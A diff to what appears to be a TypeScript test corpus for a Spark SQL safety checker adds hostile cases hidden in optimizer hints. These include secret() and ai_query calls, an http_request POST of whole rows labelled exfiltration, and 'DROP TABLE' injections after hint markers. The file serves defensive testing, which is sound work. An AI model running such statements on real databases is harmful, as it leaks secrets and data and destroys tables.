@@ -290,6 +290,25 @@ export const HOSTILE_FUNCTION_TRICKS: FunctionCorpusEntry[] = [
     functionName: 'try_secret',
     category: 'secrets',
   },
+  // Spark parses hint parameters as expressions: /*+ ... */ is not a comment.
+  {
+    sql: "SELECT /*+ REPARTITION(secret('a', 'b')) */ * FROM t",
+    note: 'call in a hint parameter',
+    functionName: 'secret',
+    category: 'secrets',
+  },
+  {
+    sql: "SELECT /*+ BROADCAST(t), REPARTITION(100, http_request(conn => 'c', method => 'POST', path => '/x', json => to_json(struct(*)))) */ * FROM t",
+    note: 'exfiltration through a hint',
+    functionName: 'http_request',
+    category: 'network',
+  },
+  {
+    sql: "SELECT /*+ REPARTITION_BY_RANGE(3, ai_query('e', a)) */ a FROM t",
+    note: 'model call in a hint',
+    functionName: 'ai_query',
+    category: 'ai',
+  },
 ];
 
 export const HOSTILE_STATEMENTS: CorpusEntry[] = [
@@ -347,6 +366,8 @@ export const HOSTILE_STATEMENTS: CorpusEntry[] = [
   { sql: 'SELECT 1 /* a /* b */ ; DROP TABLE t */', note: 'nested comment ambiguity' },
   { sql: "SELECT 1 -- x \\\n'\n; DROP TABLE t --'", note: 'backslash-continued line comment' },
   { sql: 'SELECT 1 --\rDROP TABLE t', note: 'carriage return ends a comment' },
+  { sql: 'SELECT 1 /*+ ; DROP TABLE t */', note: 'a hint is not a comment' },
+  { sql: 'SELECT /*+ BROADCAST(t) FROM t', note: 'unterminated hint' },
   // Tricks with string literals and identifiers
   { sql: "SELECT 'a'; DROP TABLE t; SELECT 'b'", note: 'batch between strings' },
   { sql: "SELECT 'unterminated", note: 'unterminated string' },
@@ -589,6 +610,11 @@ export const BENIGN_FUNCTION_STATEMENTS: BenignEntry[] = [
     sql: 'SELECT * FROM t TIMESTAMP AS OF date_sub(current_date(), 1)',
     twin: "SELECT * FROM t TIMESTAMP AS OF try_secret('s', 'k')",
     note: 'time travel to an expression',
+  },
+  {
+    sql: 'SELECT /*+ MERGE(a), BROADCAST(b), REPARTITION(8, c) */ * FROM a JOIN b ON a.id = b.id',
+    twin: "SELECT /*+ MERGE(a), REPARTITION(8, try_secret('s', 'k')) */ * FROM a JOIN b ON a.id = b.id",
+    note: 'join and partitioning hints (MERGE is a join strategy there)',
   },
   {
     sql: 'SELECT * EXCEPT (a, b) FROM t',
